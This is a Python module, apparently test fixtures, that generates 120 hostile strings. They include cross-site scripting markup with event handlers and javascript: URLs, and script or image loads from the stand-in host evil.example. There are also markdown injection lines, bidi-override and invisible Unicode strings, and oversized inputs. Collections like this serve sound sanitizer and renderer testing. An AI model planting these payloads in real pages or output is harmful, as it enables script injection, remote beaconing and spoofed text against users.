"""Texts that would do harm wherever they were taken for more than text."""

from collections.abc import Iterator
from itertools import product
from typing import Final

_ELSEWHERE: Final = "https://evil.example"
_CODE: Final = ("alert(1)", "confirm(document.domain)", "window.ran=1")
_MARKUP: Final = (
    "<script>{code}</script>",
    "<ScRiPt src={elsewhere}/x.js>{code}</sCrIpT>",
    "<img src=x onerror={code}>",
    "<img src={elsewhere}/p.png?{code}>",
    "<svg onload={code}><script>{code}</script></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{code}</script>'></iframe>",
    "<iframe src=javascript:{code}>",
    "<body onload={code}>",
    "<details open ontoggle={code}>x",
    "<input autofocus onfocus={code}>",
    "<video><source onerror={code}></video>",
    "<a href=javascript:{code}>click</a>",
    "<a href='data:text/html,<script>{code}</script>'>click</a>",
    "<form action=javascript:{code}><button>go</button></form>",
    "<math><maction actiontype=statusline xlink:href=javascript:{code}>x",
    "<object data=javascript:{code}></object>",
    "<embed src={elsewhere}/x.swf#{code}>",
    "<base href={elsewhere}/><script src=x.js></script>{code}",
    "<meta http-equiv=refresh content='0;url=javascript:{code}'>",
    "<link rel=stylesheet href={elsewhere}/x.css>{code}",
    "<style>@import '{elsewhere}/x.css';</style>{code}",
    "<style>body{{display:none!important;background:url({elsewhere}/x)}}</style>{code}",
    "<div style='position:fixed;inset:0;background:url({elsewhere}/x)'>{code}</div>",
    "</textarea></title></style><script>{code}</script>",
    "\"'><script>{code}</script>",
    "-->]]></noscript><script>{code}</script>",
    "<template><script>{code}</script></template>",
    "<source-view onclick={code}></source-view>",
    "{{{{constructor.constructor('{code}')()}}}}",
    "${{{code}}}",
    "javascript:{code}//",
)
_MARKDOWN: Final = (
    "![x]({elsewhere}/x.png)",
    "![x][1]\n[1]: {elsewhere}/x.png",
    "[click](javascript:alert(1))",
    "<{elsewhere}/auto>",
    "[^1]: {elsewhere}/note",
    "`<script>alert(1)</script>`",
    "| a | ![x]({elsewhere}) |",
    "<!--{elsewhere}-->",
)
_BIDI: Final = (
    "\u202egnp.elif",
    "\u2066\u2067\u2068 never closed",
    "\u202d\u202e" * 50,
    "\u200f\u061c mixed שלום with latin",
    "a\u0300" + "\u0301" * 300,
    "\ufeff\u200b\u2060invisible",
    "\ufdfd" * 60,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 60,
)
_LONG: Final = (
    "W" * 3_000,
    "\u2588" * 2_000,
    "&" * 2_000,
    "/" * 2_000 + "x",
    "\u00ad" * 2_000,
    "a-" * 2_000,
    "<" * 2_000,
    "1" * 3_000,
)


def payloads() -> tuple[str, ...]:
    """Return all of them: 120, no two alike."""
    return tuple(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for form, code in product(_MARKUP, _CODE):
        yield form.format(code=code, elsewhere=_ELSEWHERE)
    for form in _MARKDOWN:
        yield form.format(elsewhere=_ELSEWHERE)
    yield from _BIDI
    yield from _LONG
